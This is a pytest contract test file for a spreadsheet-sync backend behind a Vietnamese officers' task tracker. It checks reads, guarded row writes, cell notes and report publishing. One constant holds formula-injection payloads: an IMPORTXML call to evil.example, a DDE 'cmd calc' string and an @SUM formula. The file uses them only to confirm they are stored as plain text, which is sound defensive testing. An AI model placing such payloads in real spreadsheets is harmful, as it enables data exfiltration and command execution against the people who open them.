"""The backend contract (DESIGN §8): the same tests run against the local workbook and the fake
Google Sheet, so the jobs can never tell which one they talk to.

Each test gets ``plan``: the corpus's base plan written to one backend, with ``plan.backend``
(what the jobs get), ``plan.values(tab)``, ``plan.type(tab, ref, value)`` (an officer's edit),
``plan.officer_cells()``, ``plan.formulas()``, ``plan.job_note(tab, ref)`` and
``plan.documents()`` — see ``tests/messy/books.py``.
"""

from __future__ import annotations

from datetime import date, datetime
from pathlib import Path

import pytest

from jobs import flag
from sheets_sync import contract
from sheets_sync.cells import as_date, as_text, stt_key
from sheets_sync.config import Config
from sheets_sync.model import CellNote, ChangeSet, Document, RowWrite, SheetChanged
from tests.google.conftest import fake, no_network
from tests.messy.books import GooglePlan, LocalPlan
from tests.messy.corpus import HEADER, LOG, PROGRESS, TASKS, base

__all__ = ["fake", "no_network"]  # the Google tests' fixtures, for the Google half

TASK_1 = 3  # 0-based row of task 1 (A4), under a title, a legend and the header
DUE, STATUS, NOTE = 7, 8, 9  # H, I, J: the job-owned columns
TODAY, NOW = date(2024, 10, 15), datetime(2024, 10, 15, 7, 0)
FORMULA_LIKE = ['=IMPORTXML("http://evil.example/x","//a")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]


@pytest.fixture(params=["local", "google"])
def plan(request: pytest.FixtureRequest, tmp_path: Path, cfg: Config) -> LocalPlan | GooglePlan:
    if request.param == "local":
        return LocalPlan(tmp_path, cfg, base())
    return GooglePlan(request.getfixturevalue("fake"), tmp_path, cfg, base())


def _task_write(cells: dict, row: int = TASK_1, task: str = "1") -> ChangeSet:
    return ChangeSet(writes=[RowWrite(TASKS, row, cells, anchor_col=0, anchor=task)])


# --- reading -------------------------------------------------------------------------------------


def test_a_read_gives_the_named_tabs_and_leaves_out_missing_ones(plan):
    snapshot = plan.backend.read([TASKS, "Không có trang này", PROGRESS])
    assert set(snapshot) == {TASKS, PROGRESS}
    assert stt_key(snapshot[TASKS][TASK_1][0]) == "1"
    assert as_date(snapshot[PROGRESS][1][0], 2024) == date(2024, 2, 5)  # a date, however stored


def test_a_read_names_every_tab_of_the_spreadsheet_even_those_not_asked_for(plan):
    """A job that stops for a missing tab lists the tabs there are, so a renamed one shows."""
    snapshot = plan.backend.read([TASKS, "Không có trang này"])
    assert set(snapshot) == {TASKS}
    assert {TASKS, PROGRESS, LOG} <= set(snapshot.titles)
    assert "Không có trang này" not in snapshot.titles


# --- writing job cells ---------------------------------------------------------------------------


def test_job_cells_land_on_the_row_that_still_holds_their_task(plan):
    before = plan.officer_cells()
    plan.backend.apply(_task_write({DUE: date(2024, 3, 31), STATUS: "Quá hạn", NOTE: "x"}))
    row = plan.values(TASKS)[TASK_1]
    assert as_date(row[DUE], 2024) == date(2024, 3, 31)
    assert [as_text(row[STATUS]), as_text(row[NOTE])] == ["Quá hạn", "x"]
    assert plan.officer_cells() == before


def test_a_write_to_a_row_that_holds_another_task_is_refused(plan):
    before = plan.officer_cells()
    with pytest.raises(SheetChanged):
        plan.backend.apply(_task_write({STATUS: "Quá hạn"}, task="2"))  # row 4 is task 1
    assert plan.officer_cells() == before


def test_text_that_looks_like_a_formula_is_written_and_read_as_text(plan):
    changes = _task_write({NOTE: FORMULA_LIKE[0]})
    changes.appends.append((LOG, [FORMULA_LIKE[1], FORMULA_LIKE[2]]))
    changes.note_tabs = (PROGRESS,)
    changes.notes = [CellNote(PROGRESS, 1, 0, FORMULA_LIKE[2])]
    plan.backend.apply(changes)
    assert plan.formulas() == {}
    assert plan.values(TASKS)[TASK_1][NOTE] == FORMULA_LIKE[0]
    assert plan.values(LOG)[-1][:2] == FORMULA_LIKE[1:]
    assert plan.job_note(PROGRESS, "A2") == FORMULA_LIKE[2]


def test_appended_rows_follow_the_last_row_in_the_order_given(plan):
    plan.backend.apply(ChangeSet(appends=[(LOG, ["a", "flag"]), (LOG, ["b", "report"])]))
    plan.backend.apply(ChangeSet(appends=[(LOG, ["c", "flag"])]))
    assert [row[0] for row in plan.values(LOG)] == ["Thời gian", "a", "b", "c"]


def test_a_new_tab_comes_with_its_header_and_its_rows(plan):
    changes = ChangeSet(
        new_tabs={contract.MEMORY_TITLE: ["STT", "Hạn"]},
        hidden_tabs=(contract.MEMORY_TITLE,),
        appends=[(contract.MEMORY_TITLE, ["1", "abc"])],
    )
    plan.backend.apply(changes)
    assert plan.values(contract.MEMORY_TITLE) == [["STT", "Hạn"], ["1", "abc"]]


def test_the_jobs_notes_are_replaced_as_a_set(plan):
    first = ChangeSet(note_tabs=(PROGRESS,), notes=[CellNote(PROGRESS, 1, 0, "Ngày sai")])
    plan.backend.apply(first)
    second = ChangeSet(note_tabs=(PROGRESS,), notes=[CellNote(PROGRESS, 2, 1, "STT sai")])
    plan.backend.apply(second)
    assert plan.job_note(PROGRESS, "A2") is None  # fixed by the officer: the note goes
    assert plan.job_note(PROGRESS, "B3") == "STT sai"


# --- what flag relies on -------------------------------------------------------------------------


def test_job_columns_an_officer_deleted_come_back(plan):
    for ref in ("H3", "I3", "J3"):  # the job columns' header labels, deleted
        plan.type(TASKS, ref, "")
    flag.run(plan.backend, plan.cfg, today=TODAY, now=NOW)
    grid = plan.values(TASKS)
    assert grid[2][DUE : NOTE + 1] == [c.label for c in contract.TASKS.job_columns]
    assert as_text(grid[TASK_1 + 2][STATUS]) == "Quá hạn"  # task 3, Quý I, not done
    assert grid[2][:DUE] == HEADER[:DUE]  # the officers' labels as they were


def test_job_cells_left_on_a_row_without_a_task_are_cleared(plan):
    plan.type(TASKS, "I21", "Quá hạn")  # the task of row 21 was deleted, its job cells stayed
    plan.type(TASKS, "J21", "nhiệm vụ đã xóa")
    flag.run(plan.backend, plan.cfg, today=TODAY, now=NOW)
    row = plan.values(TASKS)[20] if len(plan.values(TASKS)) > 20 else []
    assert not any(as_text(v) for v in row)


# --- reports -------------------------------------------------------------------------------------


def test_a_document_published_twice_is_replaced_not_copied(plan):
    document = Document("report:2024-Q1", "Bao cao quy I.docx", "Báo cáo quý I", _docx("một"))
    assert plan.backend.find_document(document.key, document.filename) is None
    first = plan.backend.publish(document)
    again = Document(document.key, document.filename, document.title, _docx("hai"))
    assert plan.backend.publish(again) == first
    assert plan.backend.find_document(document.key, document.filename) == first
    assert plan.backend.find_document("report:2024-Q2", "Bao cao quy II.docx") is None
    assert len(plan.documents()) == 1  # one document, no copy and no temporary file left


def _docx(text: str) -> bytes:
    import io

    import docx

    document = docx.Document()
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def test_a_document_a_person_edited_is_kept_and_the_new_version_goes_beside_it(plan):
    """A rerun replaced the report the văn thư had numbered and the chairman had corrected."""
    document = Document("report:2024-Q1", "Bao cao quy I.docx", "Báo cáo quý I", _docx("một"))
    first = plan.backend.publish(document)
    assert not first.kept
    edited = plan.edit_document(first, "Số: 15/BC-UBND (văn thư ghi)")
    again = Document(document.key, document.filename, document.title, _docx("hai"))
    second = plan.backend.publish(again)
    assert second != first and second.previous == first
    assert "sửa" in second.kept  # says it was edited (locally: 'đã được sửa sau khi máy ghi')
    assert plan.document_content(first) == edited  # the person's version, byte for byte
    assert len(plan.documents()) == 2
    assert plan.backend.find_document(document.key, document.filename) is not None
    third = plan.backend.publish(again)  # the new version is the jobs' own: replaced in place
    assert third == second and not third.kept
    assert len(plan.documents()) == 2 and plan.document_content(first) == edited
